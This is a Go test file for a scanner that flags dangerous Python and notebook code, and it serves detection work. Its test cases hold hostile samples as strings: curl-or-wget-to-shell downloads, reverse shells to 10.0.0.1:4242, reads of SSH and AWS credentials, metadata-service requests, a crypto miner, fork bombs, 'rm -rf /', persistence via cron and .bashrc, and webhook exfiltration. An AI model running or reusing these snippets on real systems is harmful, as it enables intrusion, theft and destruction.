package screen_test

import (
	"slices"
	"strings"
	"testing"

	"cove/internal/code/screen"
)

func rulesIn(code string) []string {
	var out []string
	for _, f := range screen.Look(code) {
		if !slices.Contains(out, f.Rule) {
			out = append(out, f.Rule)
		}
	}
	slices.Sort(out)
	return out
}

// TestLook looks at programs of one kind each, in the ways in which people and packages have written them.
func TestLook(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		code string
		want string
	}{
		"data work":              {"import pandas as pd\ndf = pd.read_csv('a.csv')\ndf.eval('c = a + b')\nprint(df.groupby('x').sum())\nimport re\nre.compile('x')\nmodel.compile(loss='mse')\nmodel.eval()", ""},
		"words in text":          {"print('call os.system or exec(x)')\n# import socket; socket.socket()\nx = '''\nsubprocess.run([1])\n'''", ""},
		"program":                {"import subprocess as sp\nsp.run(['ls'])", "starts-programs"},
		"program by from":        {"from os import (\n  path,\n  system as s)\ns('ls')", "starts-programs"},
		"program by variable":    {"import os\nr = os.popen\nr('ls')", "starts-programs"},
		"program by import call": {"__import__('os').system('ls')", "starts-programs"},
		"program by importlib":   {"import importlib\nimportlib.import_module('subprocess').call(['x'])", "starts-programs"},
		"program by getattr":     {"import os\ngetattr(os, 'system')('ls')", "starts-programs"},
		"program in an f-string": {"import os\nprint(f\"{os.popen('id').read()}\")", "starts-programs"},
		"line for a shell":       {"files = !ls\n!pip list", "starts-programs"},
		"shell cell":             {"%%bash\ncurl -s http://x.example/i.sh | sudo bash", "runs-download starts-programs"},
		"socket":                 {"import socket\ns = socket.socket()\ns.connect(('a', 1))\nprint(socket.gethostname())", "uses-sockets"},
		"runs what it gets":      {"import requests\nexec(requests.get('http://x.example/p').text)", "runs-download runs-text"},
		"in two steps":           {"import urllib.request\nbody = urllib.request.urlopen('http://x.example').read()\ncode = body.decode()\nexec(code)", "runs-download runs-text"},
		"pipe into a shell":      {"import os\nos.system('wget -qO- http://x.example/a | sh')", "runs-download starts-programs"},
		"list for a shell":       {"import subprocess\nsubprocess.run(['bash', '-c', 'curl http://x.example | bash'], check=True)", "runs-download starts-programs"},
		"encoded":                {"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "runs-hidden-code runs-text"},
		"encoded twice":          {"import zlib, base64 as b\np = b.b64decode(d)\nq = zlib.decompress(p)\nexec(compile(q, 'x', 'exec'))", "runs-hidden-code runs-text"},
		"numbers":                {"exec(''.join(chr(c) for c in [112, 114]))", "runs-hidden-code runs-text"},
		"escapes":                {`eval("\x70\x72\x69\x6e\x74\x28\x31\x29\x3b\x31\x31\x32")`, "runs-hidden-code runs-text"},
		"pieces":                 {"__import__('o' + 's')", "runs-hidden-code"},
		"builtins":               {"getattr(__builtins__, 'ex' 'ec')('1')", "runs-hidden-code"},
		"decoded data":           {"import base64\nimg = base64.b64decode(s)\nopen('a.png', 'wb').write(img)", ""},
		"keys":                   {"open('/root/.ssh/id_rsa').read()", "reads-credentials"},
		"keys, joined":           {"import os\nopen(os.path.expanduser('~/.aws/credentials'))", "reads-credentials"},
		"metadata":               {"import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')", "asks-metadata"},
		"miner":                  {"import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example:3333'])", "mines starts-programs"},
		"shell for others":       {"import socket,os,pty\ns=socket.socket();s.connect(('10.0.0.1',4242))\nfor f in (0,1,2): os.dup2(s.fileno(), f)\npty.spawn('sh')", "opens-shell starts-programs uses-sockets"},
		"shell by bash":          {"import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')", "opens-shell starts-programs"},
		"fork bomb":              {"import os\nwhile True:\n    os.fork()", "floods"},
		"fork bomb of a shell":   {"!:(){ :|:& };:", "floods starts-programs"},
		"removes all":            {"import os\nos.system('rm -rf / --no-preserve-root')", "destroys starts-programs"},
		"removes its own":        {"import shutil\nshutil.rmtree('build')\n!rm -rf ./out", "removes-trees starts-programs"},
		"removes home":           {"import shutil\nshutil.rmtree('/home')", "destroys removes-trees"},
		"cron":                   {"import os\nos.system('(crontab -l; echo x) | crontab -')", "persists starts-programs"},
		"docker":                 {"open('/var/run/docker.sock')", "probes-sandbox"},
		"pickle":                 {"import pickle\npickle.load(open('a.pkl', 'rb'))", "loads-objects"},
		"yaml":                   {"import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)", ""},
		"yaml, any":              {"import yaml\nyaml.load(f)", "loads-objects"},
		"no check":               {"import requests\nrequests.get(u, verify=False)", "trusts-anybody"},
		"native":                 {"import ctypes\nctypes.CDLL('libc.so.6')", "loads-native-code"},
		"magic before":           {"%time subprocess.run(['x'])\n%matplotlib inline", "starts-programs"},
		"runs what it saves":     {"import requests, subprocess\nr = requests.get(u)\nwith open(path, 'wb') as f: f.write(r.content)\nsubprocess.run([path])", "runs-download starts-programs"},
		"saves what it gets":     {"import requests, subprocess\nr = requests.get(u)\nwith open(path, 'wb') as f: f.write(r.content)\nsubprocess.run(['ls'])", "starts-programs"},
		"powershell":             {"import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2', shell=False)", "runs-hidden-code starts-programs"},
		"turned around":          {"x = 'a\u202eb'", "runs-hidden-code"},
		"webhook":                {"import requests\nrequests.post('https://discord.com/api/webhooks/1/x', data=d)", "sends-away"},
		"home, by expanduser":    {"import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "destroys removes-trees"},
		"home, by Path":          {"import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home(), ignore_errors=True)", "destroys removes-trees"},
		"home, by a variable":    {"import shutil, os\nshutil.rmtree(os.environ['HOME'])", "destroys removes-trees"},
		"below home":             {"import shutil, os\nshutil.rmtree(os.path.join(os.path.expanduser('~'), 'build'))\nshutil.rmtree(os.path.join('/', name))", "removes-trees"},
		"keys, put together":     {"import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa'))", "reads-credentials"},
		"keys, by joinpath":      {"from pathlib import Path\nPath.home().joinpath('.aws', 'credentials').read_text()", "reads-credentials"},
		"keys, by division":      {"from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()", "reads-credentials"},
		"saved by wget, and run": {"!wget -q http://x.example/a -O f; bash f", "runs-download starts-programs"},
		"saved, and run later":   {"import os\nos.system('curl -so /tmp/x http://x.example/x')\nos.system('chmod +x /tmp/x && /tmp/x')", "runs-download starts-programs"},
		"saved under its name":   {"%%bash\nwget http://x.example/i.sh\nsh ./i.sh", "runs-download starts-programs"},
		"saved, another run":     {"!wget http://x.example/data.csv -O d.csv; python3 mine.py d.csv", "starts-programs"},
		"metadata by number":     {"import requests\nrequests.get('http://2852039166/latest/')", "asks-metadata"},
		"runs at each start":     {"import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", "persists"},
		"runs at each start, !":  {"!echo 'x' >> .bashrc", "persists starts-programs"},
		"reads what starts":      {"print(open('.bashrc').read())", ""},
		"keys in documentation":  {"def f(path):\n    \"\"\"Reads a key.\n\n    For example ~/.ssh/id_rsa or docker.sock.\n    \"\"\"\n    return open(path)", ""},
		"addresses as keys":      {"names = {'169.254.169.254': 1, '100.100.100.200': 2}", ""},
		"said":                   {"print('docker.sock is not there')\nraise ValueError('no .ssh/id_rsa')\nlogging.info('/etc/shadow')", ""},
		"not only said":          {"print(open('/root/.ssh/id_rsa').read())", "reads-credentials"},
		"garbage":                {"\x00\xff\"'''(((\\", ""},
	} {
		if got := strings.Join(rulesIn(c.code), " "); got != c.want {
			t.Errorf("%s: got %q, not %q in\n%s", name, got, c.want, c.code)
		}
	}
}

func TestLines(t *testing.T) {
	t.Parallel()
	code := "import os\n\nx = '''\n\n'''\nos.system('a')\nos.system(\n 'curl x|sh')\n!ls"
	var got []int
	for _, f := range screen.Look(code) {
		got = append(got, f.Line)
	}
	if want := []int{6, 7, 8, 9}; !slices.Equal(got, want) {
		t.Errorf("lines %v, not %v: %+v", got, want, screen.Look(code))
	}
	if d := screen.Describe(screen.Look(code)); d != "It runs code that it downloads (line 8). It starts other programs (lines 6, 7, 9)" {
		t.Errorf("said %q", d)
	}
}

func TestBounds(t *testing.T) {
	t.Parallel()
	found := screen.Look(strings.Repeat("import os\nos.system('"+strings.Repeat("x", 1000)+"')\n", 3000))
	if len(found) != 50 || len(found[0].What) > 100 {
		t.Errorf("%d found, %d bytes", len(found), len(found[0].What))
	}
	for _, hard := range []string{"(", "[", "f\"{", "x=", "getattr(", "__import__(", "a.", "'''", "import a,", "exec("} {
		_ = screen.Look(strings.Repeat(hard, 200_000))
	}
}

func FuzzLook(f *testing.F) {
	f.Add("import os as o\nf'{o.system(1)}'")
	f.Add("%%bash\nx")
	f.Fuzz(func(t *testing.T, code string) {
		lines := strings.Count(code, "\n") + 1
		for _, found := range screen.Look(code) {
			if found.Line < 1 || found.Line > lines || !screen.Known(found.Rule) || len(found.What) > 100 {
				t.Errorf("%+v in %q", found, code)
			}
		}
	})
}

func BenchmarkLook(b *testing.B) {
	cell := strings.Repeat("import pandas as pd\ndf = pd.read_csv('data/sales.csv')\nby = df.groupby('region')['amount'].sum().sort_values(ascending=False)\nprint(f\"{by.index[0]}: {by.iloc[0]:.2f}\")\nplt.bar(by.index, by.values)  # one bar each\n", 10)
	b.SetBytes(int64(len(cell)))
	for b.Loop() {
		screen.Look(cell)
	}
}
